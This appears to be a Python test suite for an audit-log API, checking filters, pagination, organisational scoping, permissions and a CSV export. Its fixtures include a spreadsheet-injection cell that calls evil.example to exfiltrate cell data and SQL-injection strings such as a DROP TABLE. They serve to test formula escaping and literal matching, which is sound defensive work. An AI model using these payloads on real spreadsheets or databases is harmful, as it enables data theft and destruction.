#!/usr/bin/env python3
"""GET /api/v1/audit and /api/v1/audit/head: entries for init, tokens and the demo; every filter
and the keyset pagination return exactly the entries the database says they should; scoping to
the caller's organisations (no canary from another municipality, entries without an
organisation for administrators only); the permission matrix; the CSV export (BOM, Swedish
header, semicolons, quoting, formula cells, its own audit entry, the row cap); and bad
parameters refused with 422 naming the parameter and changing nothing."""
import csv
import hashlib
import io
import json
import os
import sqlite3
import sys
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from varn_harness import (Server, Suite, check, contains, eq, main, run_varn, sql_rows,
                          tempdir)

suite = Suite()
test = suite.test

ROLES = ["administrator", "ciso", "security_officer", "system_owner", "information_owner",
         "manager", "head_of_administration", "dpo", "committee_member", "user",
         "supplier_contact", "external_party"]
SEARCH_ROLES = {"administrator", "ciso", "security_officer", "dpo", "committee_member"}
HEAD_ROLES = {"administrator", "ciso", "security_officer"}
ITEM_KEYS = {"seq", "at", "actor", "address", "action", "object_kind", "object_id",
             "organisation", "before", "after"}
HEADER = "Tid;Aktör;Adress;Händelse;Objekttyp;Objekt;Organisation;Före;Efter"
GENESIS = "0" * 64
COLUMNS = ("seq", "at", "actor", "address", "action", "object_kind", "object_id",
           "organisation_id", "before", "after", "prev_hash", "hash")

# Times of the setup steps (the server writes later entries at the real time, which is later).
T_INIT = "2025-01-01T08:00:00Z"
T_DEMO = "2025-01-02T08:00:00Z"
T_TOKENS = "2025-01-03T08:00:00Z"
T_FORMULA = "2025-01-03T10:00:00Z"

# One entry whose cells a spreadsheet would run as formulas, or that need quoting.
FORMULA = {"actor": '=HYPERLINK("http://evil.example/?"&A1)', "address": "+46 8 123 45",
           "action": "@SUM(1+1)", "object_kind": "-2+3", "object_id": 'a;b"c\nd',
           "before": None, "after": json.dumps({"note": "=1+1"})}


def entry_hash(e):
    canon = json.dumps({k: e[k] for k in COLUMNS[:-2]}, sort_keys=True, separators=(",", ":"),
                       ensure_ascii=False)
    return hashlib.sha256((e["prev_hash"] + "\n" + canon).encode("utf-8")).hexdigest()


def append_entry(db, fields):
    """Append a correctly chained entry, as audit_append would (the chain stays intact)."""
    con = sqlite3.connect(db, isolation_level=None)
    try:
        con.execute("BEGIN IMMEDIATE")
        seq, prev = con.execute("SELECT seq, hash FROM audit_log ORDER BY seq DESC LIMIT 1").fetchone()
        e = {c: None for c in COLUMNS}
        e.update(fields, seq=seq + 1, prev_hash=prev)
        e["hash"] = entry_hash(e)
        con.execute("INSERT INTO audit_log (%s) VALUES (%s)" % (
            ", ".join(COLUMNS), ", ".join(":" + c for c in COLUMNS)), e)
        con.execute("COMMIT")
        return e
    finally:
        con.close()


def varn(db, *args, now=None):
    r = run_varn(*args, db=db, env={"VARN_NOW": now} if now else None)
    eq(r.returncode, 0, "varn %s (%s)" % (" ".join(args), r.stderr))
    return r.stdout.strip()


def org_id(db, code):
    return sql_rows(db, "SELECT id FROM organisation WHERE code = ?", (code,))[0][0]


_state = {}


def setup():
    """init, demo, tokens and one formula entry at fixed past times; then the server."""
    if "srv" in _state:
        return _state
    d = tempdir()
    db = os.path.join(d, "varn.db")
    varn(db, "init", now=T_INIT)
    varn(db, "demo", now=T_DEMO)
    tokens = {}
    for org, role in [("ITC", "administrator"), ("NORRBY", "ciso"), ("SODERAS", "ciso"),
                      ("ITC", "ciso"), ("VASTERFJALL", "dpo")]:
        tokens[(org, role)] = varn(db, "token", "create", "--org", org, "--role", role,
                                   "--name", "test %s %s" % (org, role), now=T_TOKENS)
    append_entry(db, dict(FORMULA, at=T_FORMULA, organisation_id=org_id(db, "NORRBY")))
    srv = Server(db=db, init=False).start()
    _state.update(srv=srv, db=db, tokens=tokens)
    return _state


def token(org, role):
    s = setup()
    if (org, role) not in s["tokens"]:
        s["tokens"][(org, role)] = varn(s["db"], "token", "create", "--org", org, "--role", role)
    return s["tokens"][(org, role)]


def get(path, tok, params=None):
    s = setup()
    q = ("?" + urllib.parse.urlencode(params)) if params else ""
    return s["srv"].request("GET", path + q, headers={"Authorization": "Bearer " + tok})


def search(tok, **params):
    st, h, body = get("/api/v1/audit", tok, params)
    eq(st, 200, "status (%r)" % body[:300])
    eq(h.get("content-type"), "application/json", "Content-Type")
    return json.loads(body)


def search_all(tok, **params):
    """Every page, following next_cursor."""
    items, cursor, pages = [], None, 0
    while True:
        p = dict(params)
        if cursor:
            p["cursor"] = cursor
        page = search(tok, **p)
        items += page["items"]
        pages += 1
        cursor = page["next_cursor"]
        if cursor is None:
            return items, pages
        check(pages < 1000, "pagination does not end")


ADMIN = ("ITC", "administrator")


# ---- ground truth straight from the file ----

def scope(db, code):
    """The organisation ids below and including code."""
    rows = sql_rows(db, "SELECT id, parent_id FROM organisation")
    ids = {org_id(db, code)}
    grew = True
    while grew:
        more = {i for i, p in rows if p in ids} - ids
        ids |= more
        grew = bool(more)
    return ids


def expected(db, code, admin, where=lambda e: True):
    """Seqs, newest first, of entries a caller with scope code sees and where() accepts."""
    ids = scope(db, code)
    con = sqlite3.connect(db)
    con.row_factory = sqlite3.Row
    try:
        rows = [dict(r) for r in con.execute(
            "SELECT a.*, o.code AS org FROM audit_log a LEFT JOIN organisation o "
            "ON o.id = a.organisation_id ORDER BY a.seq DESC")]
    finally:
        con.close()
    return [r["seq"] for r in rows
            if (r["organisation_id"] in ids or (r["organisation_id"] is None and admin))
            and where(r)]


def seqs(items):
    return [i["seq"] for i in items]


def log_digest(db):
    """The audit log, the only thing these routes may change."""
    return sql_rows(db, "SELECT count(*), max(seq), (SELECT hash FROM audit_log "
                        "ORDER BY seq DESC LIMIT 1) FROM audit_log")[0]


# ---- entries for what happened ----

@test("init's bootstrap: ITC, its administrator, the built-in profiles, ITC under itcentrum")
def _():
    items = search(token(*ADMIN), actor="cli:init")["items"]
    eq([(i["seq"], i["action"], i["object_kind"], i["object_id"], i["organisation"], i["at"])
        for i in items],
       [(5, "policy_profile.assign", "organisation", "ITC", "ITC", T_INIT),
        (2, "person.create", "person", "admin", "ITC", T_INIT),
        (1, "organisation.create", "organisation", "ITC", "ITC", T_INIT)], "entries")
    eq(items[2]["after"]["kind"], "it_centre", "after is parsed JSON")
    eq(items[2]["before"], None, "before")
    loads = search(token(*ADMIN), actor="system")["items"]
    eq(sorted((i["seq"], i["action"], i["object_id"]) for i in loads),
       [(3, "policy_profile.load", "itcentrum"), (4, "policy_profile.load", "ostersund")],
       "the built-in profiles, loaded by the system")


@test("token creation is recorded: api_token.create with role and organisation")
def _():
    s = setup()
    items = search(token(*ADMIN), action="api_token.create", organisation="SODERAS")["items"]
    eq(len(items), 1, "SODERAS token entries")
    i = items[0]
    eq(i["object_kind"], "api_token", "object_kind")
    eq(i["after"], {"name": "test SODERAS ciso", "organisation": "SODERAS", "role": "ciso"},
       "after")
    eq(i["at"], T_TOKENS, "at")
    tid = sql_rows(s["db"], "SELECT id FROM api_token WHERE name = 'test SODERAS ciso'")[0][0]
    eq(i["object_id"], str(tid), "object_id")


@test("items have exactly the documented members, newest first")
def _():
    page = search(token(*ADMIN), limit=20)
    eq(set(page), {"items", "next_cursor"}, "page members")
    for i in page["items"]:
        eq(set(i), ITEM_KEYS, "item members")
    s = seqs(page["items"])
    eq(s, sorted(s, reverse=True), "order")


# ---- filters and pagination against the file ----

def check_filter(params, where, who=ADMIN, scope_code="ITC", admin=True):
    s = setup()
    got, _ = search_all(token(*who), limit=500, **params)
    want = expected(s["db"], scope_code, admin, where)
    eq(seqs(got), want, "entries for %r" % params)
    return got


@test("from/to: a whole day by date, an instant range, an offset, an empty range")
def _():
    check_filter({"from": "2025-01-02", "to": "2025-01-02"},
                 lambda e: "2025-01-02" <= e["at"] < "2025-01-03")
    got = check_filter({"from": T_INIT, "to": "2025-01-02T08:00:01Z"},
                       lambda e: T_INIT <= e["at"] < "2025-01-02T08:00:01Z")
    check(len(got) > 40, "init and demo entries: %d" % len(got))
    check_filter({"from": "2025-01-03T11:00:00+02:00"}, lambda e: e["at"] >= "2025-01-03T09:00:00Z")
    check_filter({"to": "2025-01-02T08:00:00Z"}, lambda e: e["at"] < T_DEMO)
    eq(check_filter({"from": T_DEMO, "to": T_DEMO}, lambda e: False), [], "from = to")


@test("actor, action, object_kind + object_id and organisation filter exactly")
def _():
    check_filter({"actor": "cli:demo"}, lambda e: e["actor"] == "cli:demo")
    check_filter({"action": "organisation.create"}, lambda e: e["action"] == "organisation.create")
    got = check_filter({"object_kind": "person", "object_id": "asa.oberg"},
                       lambda e: e["object_kind"] == "person" and e["object_id"] == "asa.oberg")
    eq(len(got), 1, "entries about asa.oberg")
    check_filter({"organisation": "NORRBYENERGI"}, lambda e: e["org"] == "NORRBYENERGI")
    check_filter({"organisation": "NORRBY", "action": "person.create",
                  "from": "2025-01-02", "to": "2025-01-03"},
                 lambda e: e["org"] == "NORRBY" and e["action"] == "person.create"
                 and "2025-01-02" <= e["at"] < "2025-01-04")


@test("SQL metacharacters in a filter match literally: nothing, and no error")
def _():
    for v in ["' OR 1=1 --", "cli:demo%", "%", "_", "\"; DROP TABLE audit_log; --"]:
        eq(search(token(*ADMIN), actor=v)["items"], [], "actor=%r" % v)


@test("pagination with limit 7 walks every visible entry exactly once, in order")
def _():
    s = setup()
    got, pages = search_all(token(*ADMIN), limit=7, to="2025-01-04")
    want = expected(s["db"], "ITC", True, lambda e: e["at"] < "2025-01-04")
    eq(seqs(got), want, "entries")
    eq(pages, (len(want) + 6) // 7, "pages")


@test("a page of exactly the remaining entries ends with next_cursor null")
def _():
    first = search(token(*ADMIN), actor="cli:init", limit=2)
    eq(seqs(first["items"]), [5, 2], "first page")
    eq(first["next_cursor"], "2", "cursor")
    last = search(token(*ADMIN), actor="cli:init", limit=1, cursor=first["next_cursor"])
    eq(seqs(last["items"]), [1], "second page")
    eq(last["next_cursor"], None, "the end")


# ---- scoping ----

def canary_free(body, words, who):
    text = body if isinstance(body, str) else json.dumps(body, ensure_ascii=False)
    for w in words:
        check(w not in text, "%s sees %r" % (who, w))


SODERAS_CANARIES = ["SODERAS", "Söderås", "asa.oberg", "Åsa Öberg", "soderas.example"]
NORRBY_CANARIES = ["NORRBY", "Norrby", "eva.sandberg", "Eva Sandberg", "norrby.example"]


@test("a ciso at NORRBY sees NORRBY and its company, nothing of SODERAS, nothing unowned")
def _():
    s = setup()
    got = check_filter({}, lambda e: True, who=("NORRBY", "ciso"), scope_code="NORRBY",
                       admin=False)
    orgs = {i["organisation"] for i in got}
    eq(orgs, {"NORRBY", "NORRBYENERGI"}, "organisations seen")
    check(any(i["object_id"] == "eva.sandberg" for i in got), "own people missing")
    canary_free(got, SODERAS_CANARIES + ["access.refused"], "NORRBY's ciso")
    # Asking for a foreign organisation is not an error, and shows nothing.
    eq(search(token("NORRBY", "ciso"), organisation="SODERAS")["items"], [], "SODERAS filter")


@test("a ciso at SODERAS sees SODERAS only: no NORRBY canary")
def _():
    got = check_filter({}, lambda e: True, who=("SODERAS", "ciso"), scope_code="SODERAS",
                       admin=False)
    check(got, "SODERAS sees nothing")
    canary_free(got, NORRBY_CANARIES, "SODERAS's ciso")


@test("a ciso at ITC sees every organisation below it but not entries without one")
def _():
    got = check_filter({}, lambda e: True, who=("ITC", "ciso"), scope_code="ITC", admin=False)
    orgs = {i["organisation"] for i in got}
    check({"ITC", "NORRBY", "SODERAS", "VASTERFJALL", "NORRBYENERGI", "NORDSYS", "KVIST"} <= orgs,
          "organisations seen: %s" % orgs)
    check(None not in orgs, "an entry without organisation was shown")


@test("entries without an organisation (refused access) are shown to administrators only")
def _():
    st, _, _ = get("/api/v1/audit", token("NORRBY", "user"))
    eq(st, 403, "a user is refused")
    refused = search(token(*ADMIN), action="access.refused")["items"]
    check(refused, "the refusal is not in the log")
    eq(refused[0]["organisation"], None, "organisation of the refusal")
    eq(refused[0]["object_id"], "GET /api/v1/audit", "object_id")
    eq(search(token("ITC", "ciso"), action="access.refused")["items"], [], "ciso at ITC")


@test("a dpo at VASTERFJALL sees VASTERFJALL only, in JSON and in CSV")
def _():
    got = check_filter({}, lambda e: True, who=("VASTERFJALL", "dpo"), scope_code="VASTERFJALL",
                       admin=False)
    eq({i["organisation"] for i in got}, {"VASTERFJALL"}, "organisations")
    st, _, body = get("/api/v1/audit", token("VASTERFJALL", "dpo"), {"format": "csv"})
    eq(st, 200, "export status")
    canary_free(body.decode("utf-8"), SODERAS_CANARIES + NORRBY_CANARIES, "VASTERFJALL's dpo CSV")


# ---- the permission matrix ----

for _role in ROLES:
    def _case(role=_role):
        tok = token("NORRBY", role)
        st, _, body = get("/api/v1/audit", tok, {"limit": 1})
        eq(st, 200 if role in SEARCH_ROLES else 403, "GET /api/v1/audit (%r)" % body[:200])
        st, _, body = get("/api/v1/audit/head", tok)
        eq(st, 200 if role in HEAD_ROLES else 403, "GET /api/v1/audit/head (%r)" % body[:200])
    suite.add("permission matrix: %s" % _role, _case)


@test("without a token: 401; with an unknown token: 401")
def _():
    s = setup()
    st, _, _ = s["srv"].request("GET", "/api/v1/audit")
    eq(st, 401, "no token")
    st, _, _ = get("/api/v1/audit", "varn_notatoken")
    eq(st, 401, "unknown token")
    st, _, _ = s["srv"].request("GET", "/api/v1/audit/head")
    eq(st, 401, "head without a token")


# ---- the head ----

@test("GET /api/v1/audit/head is the last entry, and varn audit verify --head accepts it")
def _():
    s = setup()
    st, _, body = get("/api/v1/audit/head", token(*ADMIN))
    eq(st, 200, "status")
    h = json.loads(body)
    eq(set(h), {"seq", "hash"}, "members")
    last = sql_rows(s["db"], "SELECT seq, hash FROM audit_log ORDER BY seq DESC LIMIT 1")[0]
    eq((h["seq"], h["hash"]), last, "head")
    r = run_varn("audit", "verify", "--head", h["hash"], db=s["db"])
    eq(r.returncode, 0, "verify (%s)" % r.stderr)
    contains(r.stdout, "is entry %d" % h["seq"], "verify output")


# ---- CSV export ----

def export(tok, **params):
    st, h, body = get("/api/v1/audit", tok, dict(params, format="csv"))
    eq(st, 200, "status (%r)" % body[:300])
    return h, body


@test("CSV export: BOM, Swedish header, semicolons, CRLF, attachment, one row per entry")
def _():
    s = setup()
    h, body = export(token(*ADMIN), actor="cli:demo")
    eq(h.get("content-type"), "text/csv; charset=utf-8", "Content-Type")
    eq(h.get("content-disposition"), 'attachment; filename="granskningslogg.csv"',
       "Content-Disposition")
    check(body.startswith(b"\xef\xbb\xbf"), "no BOM: %r" % body[:10])
    text = body.decode("utf-8-sig")
    eq(text.split("\r\n")[0], HEADER, "header row")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    want = expected(s["db"], "ITC", True, lambda e: e["actor"] == "cli:demo")
    eq(len(rows) - 1, len(want), "data rows")
    check(all(len(r) == 9 for r in rows), "a row without 9 cells")
    first = sql_rows(s["db"], "SELECT at, object_id FROM audit_log WHERE seq = ?", (want[0],))[0]
    # The demo's last entries assign the policy profiles; Östersund's comes last.
    eq((rows[1][0], rows[1][5], rows[1][6]), (first[0], first[1], "OSTERSUND"), "newest row")
    eq(json.loads(rows[1][8]), {"organisation": "OSTERSUND", "profile": "ostersund"},
       "Efter is the JSON")


@test("CSV export: formula cells get a leading apostrophe; ; \" and newlines are quoted")
def _():
    _, body = export(token(*ADMIN), action=FORMULA["action"])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    eq(len(rows), 2, "rows")
    r = rows[1]
    eq(r[1], "'" + FORMULA["actor"], "actor")
    eq(r[2], "'" + FORMULA["address"], "address")
    eq(r[3], "'" + FORMULA["action"], "action")
    eq(r[4], "'" + FORMULA["object_kind"], "object kind")
    eq(r[5], FORMULA["object_id"], "object id round-trips")
    eq(r[6], "NORRBY", "organisation")
    eq(json.loads(r[8]), {"note": "=1+1"}, "a JSON cell starts with { and is left alone")
    for cell in r:
        check(not cell or cell[0] not in "=+-@", "formula cell %r" % cell)


@test("an export is itself audited: audit.export with the filter, in the caller's organisation")
def _():
    s = setup()
    tok = token("NORRBY", "ciso")
    before = log_digest(s["db"])[0]
    _, body = export(tok, action="person.create", organisation="NORRBY")
    n = body.decode("utf-8-sig").count("\r\n") - 1
    last = sql_rows(s["db"], "SELECT actor, action, object_kind, organisation_id, after "
                             "FROM audit_log ORDER BY seq DESC LIMIT 1")[0]
    eq(log_digest(s["db"])[0], before + 1, "entries added")
    tid = sql_rows(s["db"], "SELECT id FROM api_token WHERE name = 'test NORRBY ciso'")[0][0]
    eq(last[:4], ("token:%d" % tid, "audit.export", "audit_log", org_id(s["db"], "NORRBY")),
       "the entry")
    eq(json.loads(last[4]), {"format": "csv", "rows": n,
                             "filter": {"action": "person.create", "organisation": "NORRBY"}},
       "after")
    seen = search(tok, action="audit.export")["items"]
    check(seen and seen[0]["after"]["rows"] == n, "the exporter sees their export: %r" % seen[:1])
    eq(run_varn("audit", "verify", db=s["db"]).returncode, 0, "the chain verifies")


@test("JSON searches are not audited")
def _():
    s = setup()
    before = log_digest(s["db"])
    search(token(*ADMIN), limit=3)
    eq(log_digest(s["db"]), before, "the audit log")


# ---- bad parameters ----

BAD = [
    ({"from": "yesterday"}, "invalid_date", "from"),
    ({"from": "2026-11-22T10:00"}, "invalid_date", "from"),
    ({"to": "2026-13-01"}, "invalid_date", "to"),
    ({"from": "2026-02-02", "to": "2026-02-01"}, "invalid_range", "to"),
    ({"limit": "0"}, "out_of_range", "limit"),
    ({"limit": "501"}, "out_of_range", "limit"),
    ({"limit": "ten"}, "out_of_range", "limit"),
    ({"limit": "5 "}, "out_of_range", "limit"),
    ({"cursor": "abc"}, "invalid_cursor", "cursor"),
    ({"cursor": "0"}, "invalid_cursor", "cursor"),
    ({"cursor": "-5"}, "invalid_cursor", "cursor"),
    ({"cursor": "99999999999999999999999"}, "invalid_cursor", "cursor"),
    ({"format": "xml"}, "invalid_value", "format"),
    ({"format": "csv", "limit": "10"}, "not_for_export", "limit"),
    ({"format": "csv", "cursor": "10"}, "not_for_export", "cursor"),
    ({"tenant_id": "1"}, "unknown_parameter", "tenant_id"),
    ({"actor": ""}, "empty", "actor"),
    ({"object_id": "x" * 201}, "too_long", "object_id"),
]

for _params, _code, _field in BAD:
    def _case(params=_params, code=_code, field=_field):
        s = setup()
        before = log_digest(s["db"])
        paging = {"limit", "cursor"} & set(params)
        for fmt in (None,) if paging else (None, "csv"):
            p = dict(params)
            if fmt and "format" not in p:
                p["format"] = fmt
            st, h, body = get("/api/v1/audit", token(*ADMIN), p)
            eq(st, 422, "status for %r (%r)" % (p, body[:300]))
            eq(h.get("content-type"), "application/problem+json", "Content-Type")
            prob = json.loads(body)
            eq((prob["code"], prob.get("field")), (code, field), "problem for %r" % p)
            contains(prob["detail"], field, "detail")
        eq(log_digest(s["db"]), before, "the audit log after refusals")
    suite.add("422 %s naming %s for %s" % (_code, _field, json.dumps(_params)[:60]), _case)


@test("a repeated parameter is refused with 422 naming it")
def _():
    s = setup()
    st, _, body = s["srv"].request("GET", "/api/v1/audit?actor=a&actor=b",
                                   headers={"Authorization": "Bearer " + token(*ADMIN)})
    eq(st, 422, "status")
    eq(json.loads(body).get("field"), "actor", "field")


@test("the API document lists both audit routes")
def _():
    s = setup()
    st, _, body = s["srv"].request("GET", "/api/v1/openapi.json")
    eq(st, 200, "status")
    paths = json.loads(body)["paths"]
    check("/api/v1/audit" in paths and "/api/v1/audit/head" in paths, "paths: %s" % list(paths))


# ---- the row cap, on a database of its own ----

@test("an export of more than 100 000 entries is refused with 422 and changes nothing")
def _():
    d = tempdir()
    db = os.path.join(d, "big.db")
    varn(db, "init", now=T_INIT)
    tok = varn(db, "token", "create", "--org", "ITC", "--role", "administrator", now=T_INIT)
    con = sqlite3.connect(db, isolation_level=None)
    con.execute("BEGIN IMMEDIATE")
    seq, prev = con.execute("SELECT seq, hash FROM audit_log ORDER BY seq DESC LIMIT 1").fetchone()
    itc = org_id(db, "ITC")
    rows = []
    for i in range(100_001):
        e = {c: None for c in COLUMNS}
        e.update(seq=seq + 1 + i, at=T_INIT, actor="bulk", action="bulk.test",
                 organisation_id=itc, prev_hash=prev)
        e["hash"] = prev = entry_hash(e)
        rows.append(tuple(e[c] for c in COLUMNS))
    con.executemany("INSERT INTO audit_log VALUES (%s)" % ", ".join("?" * len(COLUMNS)), rows)
    con.execute("COMMIT")
    con.close()
    srv = Server(db=db, init=False).start()
    before = log_digest(db)
    st, _, body = srv.request("GET", "/api/v1/audit?format=csv",
                              headers={"Authorization": "Bearer " + tok})
    eq(st, 422, "status (%r)" % body[:300])
    prob = json.loads(body)
    eq(prob["code"], "too_many_entries", "code")
    contains(prob["detail"], "narrow the filter", "detail")
    eq(log_digest(db), before, "the audit log")
    st, _, body = srv.request("GET", "/api/v1/audit?format=csv&actor=cli:init",
                              headers={"Authorization": "Bearer " + tok})
    eq(st, 200, "a narrower export")
    eq(body.decode("utf-8-sig").count("\r\n"), 4, "header and three rows")
    srv.stop()


if __name__ == "__main__":
    main(suite)
